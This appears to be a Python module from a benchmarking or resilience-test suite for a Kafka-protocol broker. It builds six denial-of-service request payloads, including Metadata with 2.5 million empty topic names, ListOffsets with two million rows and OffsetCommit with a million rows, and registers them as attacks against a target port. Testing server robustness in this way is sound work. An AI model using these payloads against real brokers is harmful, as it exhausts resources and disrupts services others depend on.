"""Attacks by legal requests with very many rows."""

from __future__ import annotations

import struct

from bench import wire
from bench.attacks import Attack
from bench.client import Connection

PARTITIONS = 2_000
TOPICS = 2_000
EMPTY_NAMES = 2_500_000
OFFSET_ROWS = 2_000_000
COMMIT_ROWS = 1_000_000
DESCRIBED = 20_000
TOPIC = "attacked"
OFFSET_COMMIT, DESCRIBE_CONFIGS = 8, 32


def metadata_of_many() -> bytes:
    """Metadata version 4 that makes the topics it names."""
    names = b"".join(wire.string(f"made-by-metadata-{number}") for number in range(TOPICS))
    return wire.frame(wire.METADATA, 4, struct.pack(">i", TOPICS) + names + b"\1")


def metadata_of_empty_names() -> bytes:
    """Metadata version 4 of topics whose names are empty."""
    return wire.frame(wire.METADATA, 4, struct.pack(">i", EMPTY_NAMES) + bytes(2 * EMPTY_NAMES) + b"\0")


def list_offsets() -> bytes:
    """ListOffsets version 1, the end of two million partitions, one of which exists."""
    body = struct.pack(">ii", -1, 1) + wire.string(TOPIC) + struct.pack(">i", OFFSET_ROWS)
    body += b"".join(struct.pack(">iq", number, -1) for number in range(OFFSET_ROWS))
    return wire.frame(wire.LIST_OFFSETS, 1, body)


def offset_commit() -> bytes:
    """OffsetCommit version 2 of one partition, a million times, by a group without members."""
    body = wire.string("attackers") + struct.pack(">i", -1) + wire.string("") + struct.pack(">qi", -1, 1)
    body += wire.string(TOPIC) + struct.pack(">i", COMMIT_ROWS)
    return wire.frame(OFFSET_COMMIT, 2, body + struct.pack(">iqh", 0, 7, -1) * COMMIT_ROWS)


def describe_configs() -> bytes:
    """DescribeConfigs version 1 of one topic, all settings, with synonyms, over and over."""
    row = struct.pack(">b", 2) + wire.string(TOPIC) + struct.pack(">i", -1)
    body = struct.pack(">i", DESCRIBED) + row * DESCRIBED + b"\1"
    return wire.frame(DESCRIBE_CONFIGS, 1, body)


def _topic(port: int) -> None:
    with Connection(port) as connection:
        connection.create_topic(TOPIC)


ATTACKS = (
    Attack(
        "create-partitions",
        "one topic of 2,000 partitions",
        lambda target: target.ask(wire.create_topic("large", PARTITIONS)),
    ),
    Attack(
        "auto-create",
        "Metadata that makes 2,000 topics",
        lambda target: target.ask(metadata_of_many()),
    ),
    Attack(
        "metadata-names",
        "Metadata of 2.5 million empty names",
        lambda target: target.repeat(metadata_of_empty_names()),
    ),
    Attack(
        "list-offsets",
        "ListOffsets of two million rows",
        lambda target: target.repeat(list_offsets()),
        _topic,
    ),
    Attack(
        "offset-commit",
        "OffsetCommit of a million rows",
        lambda target: target.repeat(offset_commit()),
        _topic,
    ),
    Attack(
        "describe-configs",
        "DescribeConfigs of one topic 20,000 times",
        lambda target: target.repeat(describe_configs()),
        _topic,
    ),
)
